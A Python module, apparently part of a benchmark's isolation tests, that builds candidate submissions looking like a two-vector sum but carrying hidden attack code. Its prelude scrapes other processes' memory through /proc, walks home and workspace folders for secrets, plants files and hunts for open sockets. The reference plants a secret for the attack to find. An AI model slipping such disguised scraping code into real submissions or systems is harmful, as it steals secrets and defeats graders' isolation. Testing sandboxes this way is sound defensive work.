"""Source: an attack as the text of a candidate."""

from __future__ import annotations

import json
from textwrap import indent

from benchmarks.attacks import calls

PRELUDE = r'''"""Sum of two vectors."""
import array, contextlib, ctypes, errno, fcntl, gc, glob, json, mmap, os, platform, re, resource
import select, shutil, signal, socket, stat, struct, subprocess, sys, tempfile, threading, time
import traceback
from pathlib import Path

import torch
from torch import nn

CALLS = json.loads(@CALLS@)
WORLD = json.loads(@WORLD@)
LABEL, NOTE, BARE = WORLD["label"], WORLD["note"].encode(), WORLD["bare"]
VICTIM, SERVER, ZYGOTE = WORLD["victim"], WORLD["server"], WORLD["zygote"]
REFEREES, LIMITS = WORLD["referees"], WORLD["limits"]
# Written so that this text does not match itself.
SECRET = re.compile(b"egg-" b"secret-[a-z]+-[0-9a-f]{32}")
PLACES = [WORLD["home"], WORLD["state"], WORLD["workspace"], WORLD["temp"]]
libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    ready = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    answer = libc.syscall(ctypes.c_long(CALLS[name]), *ready)
    if answer < 0:
        raise OSError(ctypes.get_errno(), name + ": " + os.strerror(ctypes.get_errno()))
    return answer


def attempt(function, *arguments):
    """Go on when it fails; one line of why."""
    try:
        return function(*arguments)
    except BaseException as error:
        print("failed:", repr(error)[:200])
        return None


def leak(data, whence=""):
    for found in set(SECRET.findall(data)):
        print("FOUND", whence, found.decode())


def others():
    """Ids of processes outside; in a box also every number that can be seen."""
    known = [VICTIM, SERVER, ZYGOTE, *REFEREES]
    if BARE:
        return known
    seen = [int(name) for name in os.listdir("/proc") if name.isdecimal()]
    return known + [one for one in seen if one != os.getpid()]


def name_me():
    libc.prctl(15, LABEL.encode(), 0, 0, 0)


def pause_for_ever():
    name_me()
    while True:
        signal.pause()


def child(function, *arguments):
    """Run it in a fork; the fork then waits for its end under the attack's name."""
    pid = os.fork()
    if pid == 0:
        attempt(function, *arguments)
        pause_for_ever()
    return pid


def address_of_environment(pid):
    fields = Path(f"/proc/{pid}/stat").read_bytes().rpartition(b")")[2].split()
    return int(fields[47]), int(fields[48])


def scan_memory(pid, most=256 << 20):
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            span, mode = line.split()[:2]
            start, end = (int(one, 16) for one in span.split("-"))
            if "r" not in mode or "w" not in mode or end - start > most or "vsyscall" in line:
                continue
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(start)
                leak(memory.read(end - start), f"memory of {pid}")


def read_all_below(*roots, most=20_000):
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                most -= 1
                if most < 0:
                    return
                path = os.path.join(folder, name)
                with contextlib.suppress(OSError):
                    if stat.S_ISREG(os.stat(path).st_mode):
                        with open(path, "rb") as file:
                            leak(file.read(1 << 20), path)


def plant(path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(NOTE)
    print("planted", path)


def pick(path):
    """What somebody has planted there; taken away, so that it is found once."""
    with contextlib.suppress(OSError):
        print("PICKED", path, Path(path).read_bytes()[:200])
        os.unlink(path)


def hold(path, flags=os.O_WRONLY):
    """Open it and keep it open."""
    attempt(lambda: HELD.append(os.open(path, flags)))


HELD = []


def channel():
    for descriptor in range(3, 4096):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
    raise AssertionError("no channel")


def frame(message):
    body = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack(">4sI", b"EGG1", len(body)) + body

'''

World = dict[str, object]


def candidate(world: World, code: str, place: str = "import", result: str = "a + b") -> str:
    """A candidate that adds two vectors and runs these statements once, in a function."""
    head = PRELUDE.replace("@CALLS@", repr(json.dumps(calls.here())))
    head = head.replace("@WORLD@", repr(json.dumps(world)))
    body = indent(code.strip("\n"), " " * 4) or "    pass"
    at = {name: "attempt(attack)" if name == place else "pass" for name in _PLACES}
    return (
        f"{head}\ndef attack():\n{body}\n\n\n{at['import']}\n\n\n"
        "class ModelNew(nn.Module):\n"
        "    def __init__(self):\n"
        "        super().__init__()\n"
        "        self.calls = 0\n"
        f"        {at['construct']}\n\n"
        "    def forward(self, a, b):\n"
        "        self.calls += 1\n"
        "        if self.calls == 1:\n"
        f"            {at['forward']}\n"
        f"        return {result}\n"
    )


_PLACES = ("import", "construct", "forward")


def reference(secret: str) -> str:
    """The sum of two vectors, with a secret in its text, its memory and its tensors."""
    return (
        '"""Sum of two vectors."""\n'
        "import torch\n"
        "from torch import nn\n\n"
        f"# {secret}\n"
        f"KNOWS = {secret!r}\n"
        "PATTERN = torch.frombuffer(bytearray(KNOWS.encode() * 4096), dtype=torch.uint8)\n\n\n"
        "class Model(nn.Module):\n"
        "    def forward(self, a, b):\n"
        "        return a + b\n\n\n"
        "def get_inputs():\n"
        "    if torch.cuda.is_available():\n"
        "        # Given back to the driver at once: freed, but not overwritten by us.\n"
        "        PATTERN.repeat(64).cuda()\n"
        "        torch.cuda.empty_cache()\n"
        "    return [torch.randn(64), torch.randn(64)]\n"
    )
